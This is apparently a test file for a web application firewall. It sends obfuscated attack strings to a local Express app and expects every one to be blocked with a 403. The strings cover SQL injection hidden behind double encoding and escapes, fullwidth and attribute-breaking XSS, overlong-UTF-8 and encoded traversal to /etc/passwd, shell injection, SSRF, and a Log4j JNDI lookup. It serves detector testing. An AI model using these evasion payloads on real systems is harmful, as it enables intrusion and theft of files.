// Attacks aimed at the cheap paths in front of the attack detectors (issue 20), sent to a real Express
// app on 127.0.0.1: a raw query parameter proved clean before decoding, anchored searches instead of
// regexes over whole values, and long form fields read only in their decoded view. Each attack hides
// its trigger where a prefilter could miss it — after two URL decodings, in an HTML or a JavaScript
// escape, in fullwidth or overlong UTF-8 characters, in letters and `+` alone, or 60 KiB into a form
// of ordinary prose — and must be answered 403 before the handler runs, with the category it is.
// Ordinary prose of the same size, with `&amp;` and a relative `../` link, must pass.

import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Server } from 'node:http';
import express from 'express';
import { moat as expressMoat } from '../../src/adapters/express.js';
import { createFirewall } from '../../src/firewall/firewall.js';
import type { Decision } from '../../src/engine/decision.js';
import { parseRulesSource } from '../../src/rules/document.js';
import { writeRulesFile } from '../../src/format/write-rules.js';
import { close, listen, send } from '../adapters-helpers.js';

const dir = mkdtempSync(join(tmpdir(), 'moat-attacks-prefilter-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const rulesPath = join(dir, 'rules.moat');
{
  const { rules, attacks } = parseRulesSource(JSON.stringify({ attacks: 'block' }));
  writeRulesFile(rules, rulesPath, { attacks });
}

const decisions: Decision[] = [];
const served: string[] = [];
// Bodies up to 256 KiB are read whole, so a payload at the end of a 64 KiB form is judged.
const firewall = createFirewall({ rules: rulesPath, logger: false, now: () => 0, body: { limit: 256 * 1024 }, onDecision: (d) => decisions.push(d) });
after(() => firewall.close());
const app = express();
app.use(expressMoat(firewall));
app.use(express.urlencoded({ extended: false, limit: '1mb' }));
app.all('/{*rest}', (req, res) => {
  served.push(req.originalUrl);
  res.send('served');
});
const server: Server = app.listen(0, '127.0.0.1');
const port = await listen(server);
after(() => close(server));

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };

/** Ordinary comment text holding every character a character-level prefilter would stop at. */
const PROSE = [
  "It's the O'Briens' turn; we'll meet at 12:30 (or 1 pm) & bring snacks.",
  'Prices: $5 for tea, $12.50 for lunch — see https://example.com/menu?day=mon&lang=en … or ask.',
  'The logo lives at ../images/logo.png; the style sheet is docs/../style.css.',
  'Tom &amp; Jerry said "hello" <3 and 1<2, 50% off, email me at anne@example.org.',
  'Use {name} in the template, a = b + c, path C:\\Users\\anne\\notes.txt, and #hashtags!',
].join(' ');

function proseOf(length: number): string {
  let text = '';
  while (text.length < length) text += PROSE + ' ';
  return text.slice(0, length);
}

/** A urlencoded form as a browser sends it: 16 fields of prose, the last ending in `tail`. */
function longForm(tail: string): string {
  const fields = Array.from({ length: 16 }, (_, i): [string, string] => [`field${i}`, proseOf(4000) + (i === 15 ? tail : '')]);
  return new URLSearchParams(fields).toString();
}

async function expectBlocked(spec: { path: string; method?: string; body?: string }, category: string): Promise<void> {
  const before = served.length;
  const response = await send(port, { method: spec.method ?? 'GET', path: spec.path, headers: spec.body === undefined ? {} : FORM, body: spec.body });
  assert.equal(response.status, 403, `${spec.path}: want 403, got ${response.status}`);
  assert.equal(served.length, before, 'the handler must not run');
  assert.equal(decisions.at(-1)?.category, `attack-${category}`);
}

test('GET /search?q=%2527%20OR%201=1-- (the quote appears only after two URL decodings) is blocked as SQL injection', async () => {
  await expectBlocked({ path: '/search?q=%2527%20OR%201=1--' }, 'sqli');
});

test('GET /item?id=1+union+select+password+from+users (letters, digits and + only, no syntax character) is blocked', async () => {
  await expectBlocked({ path: '/item?id=1+union+select+password+from+users' }, 'sqli');
});

test('GET /item?id=1+or+true (a digits-first value with words after it) is blocked', async () => {
  await expectBlocked({ path: '/item?id=1+or+true' }, 'sqli');
});

test('GET /item?id=+1+or+true (the number behind a leading space) is blocked', async () => {
  await expectBlocked({ path: '/item?id=+1+or+true' }, 'sqli');
});

test('GET /search?q=%26%2339%3B%20OR%201%3D1-- (the quote as an HTML reference &#39;) is blocked', async () => {
  await expectBlocked({ path: '/search?q=%26%2339%3B%20OR%201%3D1--' }, 'sqli');
});

test('GET /search?q=%5Cu0027%20OR%201%3D1-- (the quote as a JavaScript escape \\u0027) is blocked', async () => {
  await expectBlocked({ path: '/search?q=%5Cu0027%20OR%201%3D1--' }, 'sqli');
});

test('GET /search?q=＜svg onload=alert(1)＞ in fullwidth brackets is blocked as XSS', async () => {
  await expectBlocked({ path: `/search?q=${encodeURIComponent('＜svg onload=alert(1)＞')}` }, 'xss');
});

test('GET /download?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd (overlong UTF-8 dots and slashes) is blocked', async () => {
  await expectBlocked({ path: '/download?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd' }, 'traversal');
});

test('POST a 64 KiB form of prose whose last field ends in <svg/onload=alert(1)> is blocked as XSS', async () => {
  await expectBlocked({ method: 'POST', path: '/comment', body: longForm(' <svg/onload=alert(1)>') }, 'xss');
});

test('POST a 64 KiB form whose last field breaks out of an attribute with a spaced handler (" onmouseover =) is blocked', async () => {
  await expectBlocked({ method: 'POST', path: '/comment', body: longForm(' x" onmouseover ="alert(1)') }, 'xss');
});

test('POST a 64 KiB form of prose ending in an encoded traversal ..%2f..%2fetc/passwd is blocked', async () => {
  await expectBlocked({ method: 'POST', path: '/comment', body: longForm(' ..%2f..%2f..%2fetc/passwd') }, 'traversal');
});

test('POST a 64 KiB form of prose with prices ($5) ending in ;cat${IFS}/etc/passwd is blocked as shell injection', async () => {
  await expectBlocked({ method: 'POST', path: '/comment', body: longForm(' ;cat${IFS}/etc/passwd') }, 'shell');
});

test('POST a form field beginning with a colon and holding http://127.0.0.1/admin (the URL scan used to stop at index 0) is blocked as SSRF', async () => {
  await expectBlocked({ method: 'POST', path: '/fetch', body: new URLSearchParams({ url: ':x http://127.0.0.1/admin' }).toString() }, 'ssrf');
});

test('POST a 64 KiB form of prose ending in a Log4j lookup ${jndi:ldap://…} is blocked as template injection', async () => {
  await expectBlocked({ method: 'POST', path: '/comment', body: longForm(' ${jndi:ldap://203.0.113.9/a}') }, 'template');
});

test('a 64 KiB form of ordinary prose (apostrophes, &amp;, a ../ link, prices, URLs) passes', async () => {
  const before = served.length;
  const response = await send(port, { method: 'POST', path: '/comment', headers: FORM, body: longForm('') });
  assert.equal(response.status, 200, JSON.stringify(decisions.at(-1)));
  assert.equal(served.length, before + 1);
});

test('a clean request of three short parameters passes', async () => {
  const response = await send(port, { path: '/search?q=running+shoes+42&page=2&sort=price_asc' });
  assert.equal(response.status, 200);
});
